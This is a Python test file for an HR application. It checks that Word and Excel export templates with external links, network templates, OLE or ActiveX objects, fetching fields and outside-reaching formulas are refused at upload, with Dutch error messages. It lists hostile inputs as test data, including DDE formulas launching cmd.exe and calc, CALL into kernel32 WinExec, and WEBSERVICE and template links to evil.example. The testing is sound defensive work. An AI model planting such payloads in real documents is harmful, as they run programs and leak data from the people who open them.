"""Templates that reach outside the file are refused at upload (exports/uploads/package_check.py): linked
content under any spelling of TargetMode, network Word templates, embedded objects and ActiveX, Word
fields that fetch or run, a mail merge still linked to its data source, and Excel formulas that fetch,
start programs or read other workbooks. Each goes through the upload as HR would: 422, the Dutch
message beside the file field saying what and where, nothing stored. The controls show what must stay
accepted, and that LibreOffice on the server really fetched what the first attack names."""
from __future__ import annotations

import http.server
import io
import threading
import zipfile

import pytest
from docx import Document
from openpyxl import load_workbook

import package_attacks as attack
from conftest import text_of
from export_support import (FORM_KEY, refused, upload, upload_errors,  # noqa: F401
                            use_database, world)  # world: the fixture
from export_support import _no_templates  # noqa: F401 - autouse: no template left behind
from pop.models import ExportTemplate

EXTERNAL = "haalt inhoud van buiten het bestand op"
OUTSIDE_FORMULA = "Een sjabloon mag niets van buiten de werkmap ophalen of starten"
DOTM = "\\\\fileserver\\sjablonen\\Huisstijl.dotm"


def image(target=attack.PROBE):
    return f"een afbeelding in de hoofdtekst is gekoppeld aan ‘{target}’"


ATTACKS = {
    # TargetMode as Office and LibreOffice read it: a trailing space passed the old check, and
    # LibreOffice fetched the address on every PDF export (see the test at the end).
    "TargetMode with a trailing space": ("docx", lambda: attack.linked_image("External "),
                                         [EXTERNAL, image()]),
    "TargetMode in capitals after a tab": ("docx", lambda: attack.linked_image("\tEXTERNAL"),
                                           [EXTERNAL, image()]),
    "TargetMode written with character references": (
        "docx", lambda: attack.linked_image("Exte&#114;nal&#9;"), [EXTERNAL, image()]),
    "no TargetMode, a web address as target": ("docx", lambda: attack.linked_image(None),
                                               [EXTERNAL, image()]),
    "no TargetMode, a share as target": ("docx", lambda: attack.linked_image(
        None, "\\\\fileserver\\share\\logo.png"), [image("\\\\fileserver\\share\\logo.png")]),
    "relationships part named in other case": ("docx", lambda: attack.renamed_member(
        attack.linked_image("External "), "word/_rels/document.xml.rels",
        "Word/_RELS/document.XML.rels"), [image()]),
    "linked image in a header": ("docx", lambda: attack.linked_image(
        part="word/_rels/header1.xml.rels"), [f"een afbeelding in een koptekst is gekoppeld aan "
                                              f"‘{attack.PROBE}’"]),
    "linked VML image": ("docx", attack.vml_image, [image(attack.PROBE + "/logo.png")]),
    "hyperlink to a share": ("docx", lambda: attack.hyperlink("file://fileserver/share/x.docx"), [
        "De koppeling naar ‘file://fileserver/share/x.docx’ in de hoofdtekst is geen webadres "
        "(http:// of https://) of e-mailadres (mailto:)."]),
    "hyperlink to javascript": ("docx", lambda: attack.hyperlink("javascript:alert(1)"),
                                ["De koppeling naar ‘javascript:alert(1)’ in de hoofdtekst"]),
    # A web address allowed as a hyperlink is not allowed as a picture's source.
    "hyperlink relationship used as a picture": (
        "docx", lambda: attack.hyperlink("https://intranet.example/x.png", "blip"),
        [EXTERNAL, "een onderdeel in de hoofdtekst is gekoppeld aan ‘https://intranet.example/x.png’"]),
    **{f"attached template {target}": ("docx", lambda target=target: attack.attached_template(target), [
        EXTERNAL, f"documentsjabloon op het netwerk of internet (‘{target}’)",
        "Koppel het document in Word aan Normal.dotm (Ontwikkelaars → Documentsjabloon)"])
       for target in (DOTM, "file://fileserver/sjablonen/x.dotm", "file:////fileserver/sjablonen/x.dotm",
                      "file:///\\\\fileserver\\sjablonen\\x.dotm", "https://evil.example/x.dotm",
                      "ftp://evil.example/x.dotm", "\\\\evil.example@SSL\\DavWWWRoot\\x.dotm")},
    "attached template through a hyperlink relationship": (
        "docx", lambda: attack.attached_template("https://evil.example/x.dotm", attack.HYPERLINK),
        ["documentsjabloon op het netwerk of internet (‘https://evil.example/x.dotm’)"]),
    "attached template on a share without TargetMode": (
        "docx", lambda: attack.attached_template(DOTM, mode=None),
        [f"documentsjabloon op het netwerk of internet (‘{DOTM}’)"]),
    "embedded OLE object": ("docx", attack.ole_object, [
        "Dit Word-document bevat een ingesloten object (Package) in de hoofdtekst.",
        "Verwijder het object"]),
    "ActiveX control": ("docx", attack.activex_control, [
        "Dit Word-document bevat een ActiveX-besturingselement in de hoofdtekst."]),
    "chart whose workbook fetches": ("docx", lambda: attack.chart_with_workbook(
        attack.workbook({"C4": '=WEBSERVICE("http://127.0.0.1:8765/x")'})), [
        "In het ingesloten bestand ‘Microsoft_Excel_Worksheet.xlsx’ (een grafiek): Blad1!C4: de "
        "formule ‘=WEBSERVICE(\"http://127.0.0.1:8765/x\")’ gebruikt WEBSERVICE"]),
    "chart whose workbook has macros": ("docx", lambda: attack.chart_with_workbook(
        attack.changed_package(attack.workbook(), {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
        ["In het ingesloten bestand ‘Microsoft_Excel_Worksheet.xlsx’ (een grafiek): dit bestand "
         "bevat macro's"]),
    "INCLUDEPICTURE field": ("docx", lambda: attack.word_field("simple"),
                             ["Dit Word-document bevat in de hoofdtekst een veld INCLUDEPICTURE"]),
    "DDEAUTO field split over runs": ("docx", lambda: attack.word_field("complex"),
                                      ["Dit Word-document bevat in de hoofdtekst een veld DDEAUTO",
                                       "Alt+F9"]),
    "HTML chunk": ("docx", attack.alt_chunk, ["een ingevoegd stuk uit een ander bestand"]),
    "the body twice under one name": ("docx", attack.duplicate_part,
                                      ["bevat het onderdeel word/document.xml twee keer"]),
    "a DTD in the relationships": ("docx", lambda: attack.changed_package(
        attack.linked_image("&ext;"), {"word/_rels/document.xml.rels": lambda xml: xml.replace(
            b"<Relationships", b'<!DOCTYPE r [<!ENTITY ext "External">]><Relationships', 1)}),
        ["beschadigd"]),
    # Excel
    **{f"formula {formula}": ("xlsx", lambda formula=formula: attack.workbook({"C4": formula}),
                              [f"Blad1!C4: de formule ‘{formula}’ gebruikt {what}", OUTSIDE_FORMULA])
       for formula, what in [
           ('=WEBSERVICE("http://127.0.0.1:8765/x")', "WEBSERVICE, die gegevens van internet"),
           ('=_xlfn.WEBSERVICE("http://127.0.0.1:8765/x")', "WEBSERVICE"),
           ('=_xlfn.FILTERXML(_xlfn.WEBSERVICE("http://x"),"//a")', "FILTERXML"),
           ('=_xlfn.IMAGE("https://evil.example/x.png")', "IMAGE, die een afbeelding van internet"),
           ("=cmd|' /C calc'!A0", "een DDE-koppeling, die een ander programma start"),
           ("=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''", "een DDE-koppeling"),
           ("=[1]Blad1!A1", "een verwijzing naar een andere werkmap"),
           ("=SUM([Salarissen.xlsx]Blad1!A1:A3)", "een verwijzing naar een andere werkmap"),
           ("='C:\\HR\\[Salarissen.xlsx]Blad1'!A1", "een verwijzing naar een andere werkmap"),
           ("='\\\\fileserver\\hr\\[Salarissen.xlsx]Blad1'!A1", "een verwijzing naar een andere werkmap"),
           ('=HYPERLINK("file:///C:/Windows/System32/calc.exe","Klik")', "HYPERLINK naar ‘file:///"),
           ('=HYPERLINK("data:text/html,<b>x</b>","Klik")', "HYPERLINK naar ‘data:text/html"),
           ('=HYPERLINK("\\\\evil.example\\x","Klik")', "HYPERLINK naar ‘\\\\evil.example\\x’"),
           ('=RTD("prog.server",,"x")', "RTD, die gegevens uit een ander programma"),
           ('=CALL("kernel32","WinExec","JCJ","calc",0)', "CALL, die code uit een programmabibliotheek"),
           ('=REGISTER.ID("kernel32","WinExec")', "REGISTER.ID"),
       ]},
    "defined name": ("xlsx", lambda: attack.defined_name('WEBSERVICE("http://x")'), [
        "De naam ‘Koers’ in de werkmap: de formule ‘=WEBSERVICE(\"http://x\")’ gebruikt WEBSERVICE"]),
    "data validation": ("xlsx", lambda: attack.validation('WEBSERVICE("http://x")'), [
        "De gegevensvalidatie van Blad1!C4: de formule ‘=WEBSERVICE(\"http://x\")’"]),
    "conditional format": ("xlsx", lambda: attack.conditional_format("ISNUMBER([1]Blad1!A1)"), [
        "De voorwaardelijke opmaak van Blad1!C4:D9: de formule ‘=ISNUMBER([1]Blad1!A1)’ gebruikt een "
        "verwijzing naar een andere werkmap"]),
    "external workbook link": ("xlsx", attack.external_workbook_link, [
        "Deze Excel-werkmap is gekoppeld aan een andere werkmap "
        "(‘file:///\\\\fileserver\\hr\\salarissen.xlsx’).", "Koppelingen bewerken"]),
    "embedded object in a sheet": ("xlsx", attack.sheet_ole_object, [
        "Deze Excel-werkmap bevat een ingesloten object (Package) in blad Blad1."]),
    "data connection": ("xlsx", attack.data_connection, ["via een gegevensverbinding"]),
    "macro sheet": ("xlsx", lambda: attack.changed_package(attack.workbook(), {
        "xl/macrosheets/sheet1.xml": b"<xm:macrosheet xmlns:xm='http://schemas.microsoft.com/office/"
                                     b"excel/2006/main'/>"}), ["bevat macro's"]),
}


@pytest.mark.parametrize("case", list(ATTACKS))
def test_an_attack_is_refused_saying_what_and_where(world, case):
    fmt, make, phrases = ATTACKS[case]
    message = refused(world, make(), fmt)
    for phrase in phrases:
        assert phrase in message, f"{phrase!r} not in {message!r}"
    for english in ("Error", "Traceback", "external", "relationship", "None"):
        assert english not in message, message


def test_a_mail_merge_linked_to_its_data_source_is_explained_as_such(world):
    message = refused(world, attack.mail_merge(), "docx")
    assert message.startswith(
        "Dit Word-document is een samenvoegdocument dat nog gekoppeld is aan een gegevensbron "
        "(\\\\server\\hr\\medewerkers.xlsx)."), message
    assert "Ontkoppel de gegevensbron in Word (Verzendlijsten → Afdruk samenvoegen starten → Normaal " \
           "Word-document) of sla het op als gewoon document" in message
    assert "afbeelding" not in message and EXTERNAL not in message  # not an image link
    assert message.count("samenvoegdocument") == 1  # its settings and its relationship: one message


def test_many_problems_are_listed_once_each_and_at_most_five(world):
    data = attack.workbook({f"C{row}": '=WEBSERVICE("http://x")' for row in range(1, 9)})
    message = refused(world, data, "xlsx")
    assert message.count("gebruikt WEBSERVICE") == 5
    assert "En nog 3 andere dergelijke plaatsen." in message


# ---------------------------------------------------------------- what stays accepted


def activate_and_download(world, data: bytes, fmt: str) -> bytes:
    hr = world.client("hr")
    response = upload(hr, data, f"sjabloon.{fmt}")
    assert response.status_code == 302, upload_errors(response) or text_of(response)[:1500]
    with world.app.app_context():
        template = ExportTemplate.get()
    assert hr.post(f"/sjablonen/{template.id}/activeren").status_code == 302
    zoe = world.client("zoe")
    download = zoe.get(f"/plans/{world.org['plan']}/download.{fmt}")
    assert download.status_code == 200
    assert "kon dit plan niet invullen" not in text_of(zoe.get(f"/plans/{world.org['plan']}"))
    return download.data


def paragraphs(data: bytes) -> list[str]:
    return [p.text for p in Document(io.BytesIO(data)).paragraphs]


def relationships(data: bytes, part: str) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(part).decode("utf-8")


@pytest.mark.parametrize("target", ["https://intranet.example/pop", "mailto:hr@voorbeeld.nl",
                                    "HTTP://INTRANET.EXAMPLE/POP "])
def test_a_hyperlink_to_a_web_or_mail_address_stays(world, target):
    document = activate_and_download(world, attack.hyperlink(target), "docx")
    assert target.strip() in relationships(document, "word/_rels/document.xml.rels")
    assert "Naam: Zoë van 't Hof/Test" in paragraphs(document)


@pytest.mark.parametrize("target", [
    "C:\\Users\\hr\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm",
    "file:///C:/Users/hr/AppData/Roaming/Microsoft/Templates/Huisstijl.dotx",
    "file://localhost/C:/Sjablonen/Huisstijl.dotx", "Huisstijl.dotx"])
def test_a_local_word_template_stays(world, target):
    document = activate_and_download(world, attack.attached_template(target), "docx")
    assert "Naam: Zoë van 't Hof/Test" in paragraphs(document)


def test_a_chart_with_its_own_workbook_stays(world):
    """Word keeps a chart's data in a workbook inside the document; it is checked like an upload
    (the attack above) and otherwise harmless: Excel opens it only to edit the chart's data."""
    document = activate_and_download(world, attack.chart_with_workbook(attack.workbook()), "docx")
    with zipfile.ZipFile(io.BytesIO(document)) as archive:
        assert "word/embeddings/Microsoft_Excel_Worksheet.xlsx" in archive.namelist()


def test_a_mail_merge_document_without_a_data_source_stays(world):
    """Word writes w:mailMerge as soon as a merge is started; only a linked data source reaches out."""
    merge = b'<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="textFile"/>' \
            b'<w:activeRecord w:val="-1"/></w:mailMerge>'
    data = attack.word_with(extra={"word/settings.xml": lambda xml: xml.replace(
        b"<w:zoom ", merge + b"<w:zoom ", 1)})
    activate_and_download(world, data, "docx")


def test_formulas_within_the_workbook_stay(world):
    formulas = {"C4": "=SUM(B2:B3)", "C5": '=HYPERLINK("https://intranet.example/pop","Intranet")',
                "C6": '=HYPERLINK("mailto:"&A1,"Mail")', "C7": '="a|b [1]x!"&B2',
                "C8": "='Blad 2'!A1", "C9": '=HYPERLINK("#Blad1!A1","Boven")'}

    def second_sheet(wb):
        wb.create_sheet("Blad 2")["A1"] = 5
    workbook = load_workbook(io.BytesIO(activate_and_download(
        world, attack.workbook(formulas, second_sheet), "xlsx")))
    assert workbook["Blad1"]["A1"].value == "Zoë van 't Hof/Test"
    for cell, formula in formulas.items():
        assert workbook["Blad1"][cell].value == formula


# ---------------------------------------------------------------- the server never fetches


class _Probe:
    """A web server on this machine that counts the requests it gets: what LibreOffice would fetch."""

    def __enter__(self):
        hits = self.hits = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # the standard library calls it by this name
                hits.append(self.path)
                self.send_response(404)
                self.end_headers()

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.url = f"http://127.0.0.1:{self.server.server_port}/logo.png"
        return self

    def __exit__(self, *exc):
        self.server.shutdown()
        self.server.server_close()


def test_a_template_stored_before_this_check_cannot_make_the_pdf_export_fetch(world):
    """The attack of the issue, end to end: LibreOffice fetches an image linked with
    TargetMode="External " when it makes a PDF (the first half shows it, so the probe works). A
    template stored before this check (or put into the database by other means) is checked again
    when it is used: the plan comes in the default layout and nothing is fetched."""
    from exports.pdf import convert as pdf
    with world.app.app_context():
        if not pdf.available():
            pytest.skip("LibreOffice is not installed")
    with _Probe() as probe:
        data = attack.linked_image("External ", probe.url)
        with world.app.app_context():
            pdf.to_pdf(data)
        assert probe.hits, "LibreOffice did not fetch the linked image: the probe proves nothing"
        probe.hits.clear()

        assert refused(world, data, "docx")
        with world.app.app_context():
            template = ExportTemplate.create(form_key=FORM_KEY, format="docx", name="oud.docx",
                                             data=data, sha256="0" * 64, active=True)
        zoe = world.client("zoe")
        response = zoe.get(f"/plans/{world.org['plan']}/download.pdf")
        assert response.status_code == 200 and response.data.startswith(b"%PDF")
        assert probe.hits == []
        assert "kon dit plan niet invullen" in text_of(zoe.get(f"/plans/{world.org['plan']}"))
        docx = zoe.get(f"/plans/{world.org['plan']}/download.docx").data
        assert probe.url not in relationships(docx, "word/_rels/document.xml.rels")
        assert template.id
